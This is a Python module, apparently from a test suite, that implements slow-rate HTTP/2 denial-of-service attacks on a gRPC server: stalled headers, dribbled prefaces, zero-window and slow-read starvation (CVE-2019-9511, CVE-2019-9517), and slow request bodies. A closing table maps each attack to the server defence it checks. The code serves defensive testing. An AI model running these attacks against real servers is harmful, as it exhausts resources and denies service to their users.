"""The attacks that do nothing, or as little as they can, and hold what they have got."""

import contextlib
import threading
import time

from hostile.attacks import UPLOAD
from hostile.wire import *

LARGE = 0x7FFF_0000
MEBIBYTE = 1 << 20


def response_of(size):
    """A request of UnaryCall for so many bytes: SimpleRequest.response_size."""
    return message(b"\x10" + varint(size))


def ask_for(stream, size):
    """A call that is answered with so many bytes."""
    return headers(stream, call("UnaryCall"), UPLOAD) + data(stream, response_of(size), END_STREAM)


def ask_for_stream(stream, count, size):
    """A call that is answered with so many messages: StreamingOutputCallRequest."""
    parameters = b"\x08" + varint(size)
    request = message(count * (b"\x12" + varint(len(parameters)) + parameters))
    return headers(stream, call("StreamingOutputCall"), UPLOAD) + data(stream, request, END_STREAM)


def unfinished_headers(port):
    """T10: a header block that never ends."""
    wire = Wire(port)
    # Within a block nothing else may be sent.
    wire.is_alive()
    wire.answers = False
    wire.send(headers(1, call(), END_STREAM))
    return wire


def no_preface(port):
    """T22: says nothing at all."""
    return Wire(port, opening=None)


def half_preface(port):
    """T22: one byte now and then."""
    wire = Wire(port, opening=None)
    for byte in MAGIC[:6]:
        if not wire.send(bytes([byte])) or wire.ended_at:
            break
        time.sleep(0.05)
    return wire


def data_dribble(port):
    """T19: a hundred long answers, read a byte at a time (CVE-2019-9511)."""
    streams = range(1, 200, 2)
    wire = Wire(port, settings([(4, 1)]))
    wire.send(b"".join(ask_for_stream(stream, 64, MEBIBYTE // 64) for stream in streams))
    deadline = time.monotonic() + 8
    while wire.count(RST_STREAM) < len(streams) and time.monotonic() < deadline:
        if not wire.send(b"".join(window_update(stream, 1) for stream in streams[:20])):
            break
        time.sleep(0.1)
    return wire


def zero_window(port):
    """T20: opens its windows and does not read (CVE-2019-9517)."""
    wire = Wire(port, settings([(4, LARGE)]) + window_update(0, LARGE), reads=False,
                receive_buffer=4096)
    wire.send(settings(flags=ACK) + b"".join(
        ask_for_stream(s, 256, MEBIBYTE // 64) for s in range(1, 40, 2)))
    return wire


def slow_read(port):
    """T21: reads ten bytes a second."""
    wire = Wire(port, settings([(4, LARGE)]) + window_update(0, LARGE), reads=False,
                receive_buffer=4096)
    wire.send(settings(flags=ACK) + ask_for(1, 4 * MEBIBYTE))

    def read():
        with contextlib.suppress(OSError):
            while wire.socket.recv(1):
                time.sleep(0.1)

    threading.Thread(target=read, daemon=True).start()
    return wire


def vanished(port):
    """T36: a peer that was there, and is not any more."""
    wire = Wire(port)
    wire.is_alive()
    wire.answers = False
    # Whose requests may take as long as it likes.
    wire.send(headers(1, call("FullDuplexCall"), UPLOAD))
    return wire


def slow_post(port):
    """Begins calls, and never gets to their requests."""
    wire = Wire(port)
    wire.send(b"".join(headers(s, call("UnaryCall"), UPLOAD) for s in range(1, 200, 2)))
    return wire


def slow_bytes(port):
    """Sends a byte of its request now and then."""
    wire = Wire(port)
    wire.send(headers(1, call("UnaryCall"), UPLOAD))

    def send():
        for byte in message(bytes(100)):
            if not wire.send(data(1, bytes([byte]))) or wire.ended_at or wire.count(RST_STREAM):
                break
            time.sleep(0.5)

    threading.Thread(target=send, daemon=True).start()
    return wire


def slow_stranger(port):
    """Does not get to the end of a request that is refused, and that nobody wants to know of before."""
    wire = Wire(port)
    wire.send(headers(1, b"\x83\x86" + literal(":path", "/nowhere") + literal(":authority", "test"),
                      UPLOAD))
    return wire


def no_acknowledgement(port):
    """Never takes our settings over."""
    wire = Wire(port, reads=False)
    wire.send(ask_for(1, 10))
    return wire


# What is done, why the server ends it, the defence without which it goes on.
WAITS = [
    (unfinished_headers, "slow_headers", ("slowHeaders", "keepalive")),
    (no_preface, "slow_to_establish", ("slowStart",)),
    (half_preface, "slow_to_establish", ("slowStart",)),
    (zero_window, "slow_reader", ("slowReaders", "keepalive")),
    (slow_read, "slow_reader", ("slowReaders", "keepalive")),
    (slow_post, "slow_sender", ("slowSenders",)),
    (slow_bytes, "slow_sender", ("slowSenders",)),
    (slow_stranger, "slow_sender", ("slowSenders",)),
    (vanished, "vanished", ("keepalive",)),
]
